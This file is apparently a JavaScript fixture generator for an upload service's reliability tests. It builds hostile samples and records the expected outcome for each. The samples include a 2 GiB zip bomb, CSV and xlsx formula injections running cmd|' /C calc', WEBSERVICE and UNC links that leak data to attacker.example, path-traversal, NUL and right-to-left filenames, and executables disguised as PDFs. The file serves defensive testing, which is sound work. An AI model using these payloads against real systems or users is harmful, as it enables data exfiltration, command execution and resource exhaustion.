// Hostile fixtures for the reliability suite, made on demand (nothing binary is committed).
// `npm run fixtures` (or `node --conditions=source --import tsx reliability/make-fixtures.mjs [dir]`) writes them into
// reliability/.fixtures/ (git-ignored) with manifest.json: for each file its bytes, its
// "upload name" (the hostile name it is sent under: ../, ..\, NUL, U+202E, 300 characters)
// and what the rules say must happen to it (accepted, or refused with which issue code).
import { mkdir, readFile, writeFile, stat } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { join } from 'node:path';
import { constants as Z, crc32, deflateRawSync } from 'node:zlib';
import * as XLSX from 'xlsx';
import { demoDraftOfA } from '@ipr/server/demo-accounts';

export const FIXTURES_DIR = fileURLToPath(new URL('./.fixtures/', import.meta.url));
const VERSION = '4';
export const EXACT = 5 * 1024 * 1024; // 5,242,880: allowed; one byte more is not

export const link = (i) => `https://market.example/product/p${String(i).padStart(6, '0')}`;

/** A valid draft of the demo's complainant A (its seeded certificate as evidence, one product); `overrides` on top. */
export const draftOfA = (overrides) => demoDraftOfA({ productLinks: [link(101)], ...overrides });
const enc = (s) => new TextEncoder().encode(s);

// ───────────────────────────── zip ─────────────────────────────

/**
 * A zip writer. Each entry is `[name, bytes]` (deflated), `[name, bytes, 'store']`, or
 * `[name, { deflated, size, crc }]` for a pre-made deflate stream (the bomb).
 */
export function writeZip(entries, comment = '') {
  const parts = [];
  const central = [];
  let offset = 0;
  for (const [name, data, how] of entries) {
    const nameBytes = enc(name);
    let packed, size, crc, method;
    if (data instanceof Uint8Array) {
      size = data.length;
      crc = crc32(data);
      method = how === 'store' ? 0 : 8;
      packed = method === 0 ? data : deflateRawSync(data, { level: 9 });
    } else {
      ({ deflated: packed, size, crc } = data);
      if (data.declare !== undefined) size = data.declare; // a lying header
      method = 8;
    }
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(0, 10);
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    local.writeUInt16LE(0, 28);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(0, 8);
    dir.writeUInt16LE(method, 10);
    dir.writeUInt32LE(0, 12);
    dir.writeUInt32LE(crc >>> 0, 16);
    dir.writeUInt32LE(packed.length, 20);
    dir.writeUInt32LE(size >>> 0, 24);
    dir.writeUInt16LE(nameBytes.length, 28);
    dir.writeUInt32LE(offset, 42);
    parts.push(local, nameBytes, packed);
    central.push(dir, nameBytes);
    offset += local.length + nameBytes.length + packed.length;
  }
  const dirSize = central.reduce((a, b) => a + b.length, 0);
  const commentBytes = enc(comment);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dirSize, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(commentBytes.length, 20);
  return new Uint8Array(Buffer.concat([...parts, ...central, end, commentBytes]));
}

/** The bytes a zip entry costs besides its data: local header + central record, both with the name. */
const zipOverhead = (name) => 30 + 46 + 2 * enc(name).length;

/** The entries of a real workbook made by SheetJS, to rebuild with our own sheet XML. */
function workbookEntries(rows = [['Product link'], [link(1)]]) {
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), 'Links');
  const bytes = new Uint8Array(XLSX.write(wb, { type: 'array', bookType: 'xlsx', compression: true }));
  const zip = XLSX.CFB.read(bytes, { type: 'array' });
  const entries = [];
  zip.FullPaths.forEach((path, i) => {
    const entry = zip.FileIndex[i];
    if (entry.type !== 2) return;
    entries.push([path.replace(/^Root Entry\//, ''), new Uint8Array(entry.content)]);
  });
  return entries;
}

const withSheet = (entries, sheetXml) =>
  entries.map(([n, d]) => (n === 'xl/worksheets/sheet1.xml' ? [n, sheetXml] : [n, d]));

const SHEET_HEAD =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"' +
  ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">';

/**
 * A deflate stream of `chunk` repeated `times` times without deflating all of it: the chunk is
 * compressed once with a sync flush (byte-aligned, no reference outside itself), the copies are
 * concatenated, and an empty final block closes the stream. The CRC is the real one.
 */
function repeatedDeflate(prefix, chunk, times, suffix) {
  const flushed = (bytes) => deflateRawSync(bytes, { level: 9, finishFlush: Z.Z_SYNC_FLUSH });
  const head = flushed(prefix);
  const body = flushed(chunk);
  const tail = deflateRawSync(suffix, { level: 9 }); // ends with the final block
  const parts = [head];
  for (let i = 0; i < times; i++) parts.push(body);
  parts.push(tail);
  let crc = crc32(prefix);
  for (let i = 0; i < times; i++) crc = crc32(chunk, crc);
  crc = crc32(suffix, crc);
  return { deflated: Buffer.concat(parts), size: prefix.length + chunk.length * times + suffix.length, crc };
}

// ───────────────────────────── evidence bodies ─────────────────────────────

/** A valid PDF of exactly `size` bytes (a comment line pads it). */
export function pdfOfSize(size) {
  const head =
    '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n%';
  const tail = '\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n';
  const pad = size - head.length - tail.length;
  if (pad < 0) throw new Error('too small for a PDF');
  const out = new Uint8Array(size);
  out.set(enc(head).subarray(0, head.length));
  // latin1 for the binary-marker line
  for (let i = 0; i < head.length; i++) out[i] = head.charCodeAt(i);
  out.fill(0x2d, head.length, head.length + pad); // '-'
  for (let i = 0; i < tail.length; i++) out[head.length + pad + i] = tail.charCodeAt(i);
  return out;
}

function pngChunk(type, data) {
  const out = Buffer.alloc(12 + data.length);
  out.writeUInt32BE(data.length, 0);
  out.write(type, 4, 'latin1');
  Buffer.from(data).copy(out, 8);
  out.writeUInt32BE(crc32(out.subarray(4, 8 + data.length)) >>> 0, 8 + data.length);
  return out;
}

/** A valid 1x1 PNG of exactly `size` bytes (a private ancillary chunk pads it; `unique` bytes start the padding). */
export function pngOfSize(size, unique) {
  const sig = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(1, 0);
  ihdr.writeUInt32BE(1, 4);
  ihdr[8] = 8;
  ihdr[9] = 2; // 8-bit RGB
  const idat = deflateRawSync(Buffer.from([0, 255, 0, 0])); // filter 0, one red pixel
  const zlibWrapped = Buffer.concat([Buffer.from([0x78, 0x9c]), idat, Buffer.alloc(4)]);
  // adler32 of the raw scanline
  let a = 1,
    b = 0;
  for (const byte of [0, 255, 0, 0]) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  zlibWrapped.writeUInt32BE(((b << 16) | a) >>> 0, zlibWrapped.length - 4);
  const base = [sig, pngChunk('IHDR', ihdr), pngChunk('IDAT', zlibWrapped), pngChunk('IEND', Buffer.alloc(0))];
  const baseSize = base.reduce((n, p) => n + p.length, 0);
  const pad = size - baseSize - 12;
  if (pad < 0) return new Uint8Array(Buffer.concat(base));
  const filler = Buffer.alloc(pad, 0x41);
  if (unique) filler.set(unique.subarray(0, Math.min(unique.length, pad)));
  return new Uint8Array(Buffer.concat([base[0], base[1], pngChunk('prVt', filler), base[2], base[3]]));
}

const elf = () => {
  const b = new Uint8Array(4096);
  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  for (let i = 16; i < b.length; i++) b[i] = (i * 31) & 0xff;
  return b;
};
const mz = () => {
  const b = new Uint8Array(4096);
  b.set([0x4d, 0x5a, 0x90, 0x00, 0x03]);
  b.set(enc('This program cannot be run in DOS mode.'), 0x4e);
  return b;
};

// ───────────────────────────── sheets ─────────────────────────────

/** An .xlsx of exactly `size` bytes: real links, padded with a stored (uncompressed) entry. */
function xlsxOfSize(size) {
  const entries = workbookEntries([['Product link'], ...Array.from({ length: 50 }, (_, i) => [link(i + 1)])]);
  const padName = 'docProps/padding.bin';
  const base = writeZip(entries).length;
  const padLength = size - base - zipOverhead(padName);
  if (padLength < 0) throw new Error('base workbook larger than the target');
  const padding = new Uint8Array(padLength).fill(0x20);
  const out = writeZip([...entries, [padName, padding, 'store']]);
  if (out.length !== size) throw new Error(`xlsx size ${out.length} != ${size}`);
  return out;
}

/**
 * A sheet whose XML inflates to 2 GiB from a file under the 5 MiB limit: 1 MiB chunks of
 * 1,024 link rows and whitespace between elements (legal XML), repeated 2,047 times — 2,096,128 rows.
 */
function zipBomb(declare) {
  const rowsPerChunk = 1024;
  const row = `<row><c t="inlineStr"><is><t>${link(1)}</t></is></c></row>`;
  const rows = row.repeat(rowsPerChunk);
  const chunk = enc(rows + ' '.repeat(1024 * 1024 - rows.length));
  const times = 2048 - 1;
  const prefix = enc(
    SHEET_HEAD + '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Product link</t></is></c></row>',
  );
  const suffix = enc('</sheetData></worksheet>');
  const bomb = repeatedDeflate(prefix, chunk, times, suffix);
  const entries = withSheet(workbookEntries(), declare === undefined ? bomb : { ...bomb, declare });
  return { bytes: writeZip(entries), inflated: bomb.size, rows: rowsPerChunk * times };
}

/**
 * 1,000,000 link rows in a file under 5 MiB: the rows cycle through 256 distinct links (a cycle
 * shorter than deflate's 32 KiB window, so it compresses), with a dimension of A1:A1000001.
 */
function millionRows() {
  const n = 1_000_000;
  const cycle = Array.from(
    { length: 256 },
    (_, i) => `<row><c t="inlineStr"><is><t>${link(i + 1)}</t></is></c></row>`,
  ).join('');
  const prefix = enc(
    SHEET_HEAD +
      `<dimension ref="A1:A${n + 1}"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Product link</t></is></c></row>`,
  );
  // 1,000,000 / 256 is not whole: 3,906 cycles (999,936 rows) and the last 64 rows in the suffix.
  const rest = Array.from(
    { length: n - 3906 * 256 },
    (_, i) => `<row><c t="inlineStr"><is><t>${link(i + 1)}</t></is></c></row>`,
  ).join('');
  const whole = repeatedDeflate(prefix, enc(cycle), 3906, enc(rest + '</sheetData></worksheet>'));
  return writeZip(withSheet(workbookEntries(), whole));
}

/** Formulas, a formula into another workbook, a hyperlink to an external file, and an externalLink part. */
function formulasAndExternalLinks() {
  const entries = workbookEntries();
  const sheet =
    SHEET_HEAD +
    '<sheetData>' +
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Product link</t></is></c></row>' +
    `<row r="2"><c r="A2" t="inlineStr"><is><t>${link(1)}</t></is></c></row>` +
    `<row r="3"><c r="A3" t="str"><f>HYPERLINK("${link(2)}")</f><v>${link(2)}</v></c></row>` +
    `<row r="4"><c r="A4" t="str"><f>[1]Sheet1!A1</f><v>${link(3)}</v></c></row>` +
    `<row r="5"><c r="A5" t="str"><f>WEBSERVICE("http://attacker.example/?leak="&amp;A2)</f><v>${link(4)}</v></c></row>` +
    '<row r="6"><c r="A6" t="str"><f>cmd|\' /C calc\'!A0</f><v>0</v></c></row>' +
    `<row r="7"><c r="A7" t="inlineStr"><is><t>${link(5)}</t></is></c></row>` +
    '<row r="8"><c r="A8" t="inlineStr"><is><t>open the report</t></is></c></row>' +
    '</sheetData><hyperlinks><hyperlink ref="A8" r:id="rIdX"/></hyperlinks></worksheet>';
  const sheetRels =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/></Relationships>';
  const external =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
    '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>x</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>';
  const externalRels =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="\\\\attacker.example\\share\\book.xlsx" TargetMode="External"/></Relationships>';
  const out = withSheet(entries, enc(sheet)).map(([n, d]) => {
    if (n === '[Content_Types].xml') {
      const text = new TextDecoder()
        .decode(d)
        .replace(
          '</Types>',
          '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
        );
      return [n, enc(text)];
    }
    if (n === 'xl/_rels/workbook.xml.rels') {
      const text = new TextDecoder()
        .decode(d)
        .replace(
          '</Relationships>',
          '<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
        );
      return [n, enc(text)];
    }
    if (n === 'xl/workbook.xml') {
      return [
        n,
        enc(
          new TextDecoder()
            .decode(d)
            .replace(
              '</workbook>',
              '<externalReferences><externalReference r:id="rIdExt1"/></externalReferences></workbook>',
            )
            .replace(
              '<workbook ',
              '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
            )
            .replace(/(xmlns:r="[^"]*")\s+xmlns:r="[^"]*"/, '$1'),
        ),
      ];
    }
    return [n, d];
  });
  out.push(['xl/worksheets/_rels/sheet1.xml.rels', enc(sheetRels)]);
  out.push(['xl/externalLinks/externalLink1.xml', enc(external)]);
  out.push(['xl/externalLinks/_rels/externalLink1.xml.rels', enc(externalRels)]);
  return writeZip(out);
}

/** CSV cells that a spreadsheet program would run: =, +, -, @ and tab / CR variants. */
function injectionCsv() {
  const lines = [
    'Product link,Note',
    `${link(1)},plain`,
    `=HYPERLINK("http://attacker.example/?x="&A2;"click"),eq`,
    `+cmd|' /C calc'!A0,plus`,
    `-2+3+cmd|' /C calc'!A0,minus`,
    `@SUM(1+1)*cmd|' /C calc'!A0,at`,
    `"\t=1+1",tab-eq`,
    `"\r=1+1",cr-eq`,
    `"\t${link(2)}",tab-link`,
    `=${link(3)},eq-link`,
    `${link(4)},"=HYPERLINK(""http://attacker.example"")"`,
  ];
  return lines.join('\r\n') + '\r\n';
}

// ───────────────────────────── the manifest ─────────────────────────────

/**
 * Every fixture: `file` (on disk, a plain name), `name` (the name it is uploaded / imported
 * under), `use` ('evidence' | 'sheet'), and `expect`: { ok: true } or { ok: false, code, status? }.
 */
export async function makeFixtures(dir = FIXTURES_DIR) {
  await mkdir(dir, { recursive: true });
  const list = [];
  const add = async (file, bytes, entry) => {
    await writeFile(join(dir, file), bytes);
    list.push({ file, size: bytes.length, ...entry });
  };
  const pdf = pdfOfSize(2048);

  // Evidence: content decides, names are sanitised, the limit is exact.
  await add('elf.pdf', elf(), {
    use: 'evidence',
    name: 'invoice.pdf',
    expect: { ok: false, code: 'evidence.content_mismatch', status: 422 },
  });
  await add('mz.pdf', mz(), {
    use: 'evidence',
    name: 'contract.pdf',
    expect: { ok: false, code: 'evidence.content_mismatch', status: 422 },
  });
  await add('png-named.pdf', pngOfSize(4096), {
    use: 'evidence',
    name: 'scan.pdf',
    expect: { ok: false, code: 'evidence.content_mismatch', status: 422 },
  });
  await add('rtl-exe.bin', mz(), {
    use: 'evidence',
    name: 'invoice\u202Efdp.exe',
    expect: { ok: false, code: 'evidence.type_not_allowed', status: 422 },
  });
  await add('rtl-pdf.pdf', pdf, {
    use: 'evidence',
    name: 'report\u202Etxt.pdf',
    expect: { ok: true, storedName: 'reporttxt.pdf' },
  });
  await add('dotdot.pdf', pdf, {
    use: 'evidence',
    name: '../../../../../../../../tmp/MARKER-dotdot.pdf',
    expect: { ok: true, storedName: 'MARKER-dotdot.pdf' },
  });
  await add('dotdot-win.pdf', pdf, {
    use: 'evidence',
    name: '..\\..\\..\\..\\Windows\\MARKER-win.pdf',
    expect: { ok: true, storedName: 'MARKER-win.pdf' },
  });
  await add('dotdot-only.pdf', pdf, {
    use: 'evidence',
    name: '../..',
    expect: { ok: false, code: 'evidence.type_not_allowed', status: 422 },
  });
  await add('nul.pdf', pdf, {
    use: 'evidence',
    name: 'MARKER-nul.pdf\u0000.exe',
    expect: { ok: false, code: 'evidence.name_invalid', status: 422 },
  });
  await add('long.pdf', pdf, {
    use: 'evidence',
    name: 'MARKER-' + 'a'.repeat(289) + '.pdf',
    expect: { ok: true, storedLength: 255, storedExt: '.pdf' },
  });
  await add('empty.pdf', new Uint8Array(0), {
    use: 'evidence',
    name: 'empty.pdf',
    expect: { ok: false, code: 'evidence.empty', status: 422 },
  });
  await add('exact.pdf', pdfOfSize(EXACT), { use: 'evidence', name: 'exact-5242880.pdf', expect: { ok: true } });
  await add('over.pdf', pdfOfSize(EXACT + 1), {
    use: 'evidence',
    name: 'over-5242881.pdf',
    expect: { ok: false, code: 'evidence.too_large', status: 413 },
  });
  await add('exact.png', pngOfSize(EXACT), { use: 'evidence', name: 'exact-5242880.png', expect: { ok: true } });
  await add('over.png', pngOfSize(EXACT + 1), {
    use: 'evidence',
    name: 'over-5242881.png',
    expect: { ok: false, code: 'evidence.too_large', status: 413 },
  });

  // Sheets through importLinks.
  // A zip bomb: the sheet XML inflates to 2 GiB (declared honestly, then with a lying header).
  const bomb = zipBomb();
  await add('bomb.xlsx', bomb.bytes, {
    use: 'sheet',
    name: 'links.xlsx',
    inflated: bomb.inflated,
    rows: bomb.rows,
    expect: { ok: false, code: 'sheet.corrupt', slowMs: 5000 },
  });
  const liar = zipBomb(2 * 1024 * 1024);
  await add('bomb-lying.xlsx', liar.bytes, {
    use: 'sheet',
    name: 'links.xlsx',
    inflated: liar.inflated,
    rows: liar.rows,
    expect: { ok: false, code: 'sheet.corrupt', slowMs: 5000 },
  });
  // The bomb as evidence: a zip named .xlsx is what an .xlsx is; the server stores it, never opens it.
  await add('bomb-evidence.xlsx', bomb.bytes, { use: 'evidence', name: 'products.xlsx', expect: { ok: true } });
  const whole = workbookEntries([['Product link'], ...Array.from({ length: 300 }, (_, i) => [link(i + 1)])]);
  const full = writeZip(whole);
  await add('truncated.xlsx', full.subarray(0, Math.floor(full.length * 0.6)), {
    use: 'sheet',
    name: 'truncated.xlsx',
    expect: { ok: false, code: 'sheet.corrupt' },
  });
  await add('rows-1000000.xlsx', millionRows(), {
    use: 'sheet',
    name: 'million.xlsx',
    expect: { ok: true, valid: 256, byStatus: { ok: 256, duplicate: 744 }, unreadRows: 999_000, slowMs: 5000 },
  });
  await add('formulas-external.xlsx', formulasAndExternalLinks(), {
    use: 'sheet',
    name: 'formulas.xlsx',
    expect: {
      ok: true,
      rows: { 2: 'ok', 3: 'formula', 4: 'formula', 5: 'formula', 6: 'formula', 7: 'ok', 8: 'not_url' },
    },
  });
  await add('injection.csv', enc(injectionCsv()), {
    use: 'sheet',
    name: 'links.csv',
    expect: {
      ok: true,
      rows: {
        2: 'ok',
        3: 'formula',
        4: 'not_url',
        5: 'not_url',
        6: 'not_url',
        7: 'formula',
        8: 'formula',
        9: 'ok',
        10: 'formula',
        11: 'ok',
      },
    },
  });
  await add('exe-named.xlsx', mz(), { use: 'sheet', name: 'links.xlsx', expect: { ok: false, code: 'sheet.corrupt' } });
  await add('png-named.xlsx', pngOfSize(2048), {
    use: 'sheet',
    name: 'links.xlsx',
    expect: { ok: false, code: 'sheet.corrupt' },
  });
  await add('rtl.xlsx', full, {
    use: 'sheet',
    name: 'links\u202Exslx.exe',
    expect: { ok: false, code: 'sheet.type_not_allowed' },
  });
  await add('nul.xlsx', full, {
    use: 'sheet',
    name: 'links.xlsx\u0000.exe',
    expect: { ok: false, code: 'sheet.type_not_allowed' },
  });
  await add('dotdot.xlsx', full, { use: 'sheet', name: '../../..\\..\\links.xlsx', expect: { ok: true, valid: 300 } });
  await add('long.xlsx', full, { use: 'sheet', name: 'l'.repeat(295) + '.xlsx', expect: { ok: true, valid: 300 } });
  await add('exact.xlsx', xlsxOfSize(EXACT), {
    use: 'sheet',
    name: 'exact-5242880.xlsx',
    expect: { ok: true, valid: 50 },
  });
  await add('over.xlsx', xlsxOfSize(EXACT + 1), {
    use: 'sheet',
    name: 'over-5242881.xlsx',
    expect: { ok: false, code: 'sheet.too_large' },
  });

  for (const f of list) if (f.size !== (await stat(join(dir, f.file))).size) throw new Error(`size of ${f.file}`);
  await writeFile(join(dir, 'manifest.json'), JSON.stringify({ version: VERSION, files: list }, null, 2));
  return list;
}

/** The fixtures, made once per version (the bomb and the million rows take a few seconds). */
export async function ensureFixtures(dir = FIXTURES_DIR) {
  try {
    const manifest = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8'));
    if (manifest.version === VERSION) return manifest.files;
  } catch {
    /* make them */
  }
  return makeFixtures(dir);
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const started = performance.now();
  const dir = process.argv[2] ?? FIXTURES_DIR;
  const list = await makeFixtures(dir);
  for (const f of list)
    console.log(
      `${f.file.padEnd(24)} ${String(f.size).padStart(9)} B  ${f.use.padEnd(8)} ${JSON.stringify(f.name).slice(0, 60)}${f.inflated ? `  (inflates to ${(f.inflated / 1024 ** 3).toFixed(2)} GiB)` : ''}`,
    );
  console.log(`${list.length} fixtures in ${dir} (${((performance.now() - started) / 1000).toFixed(1)} s)`);
}
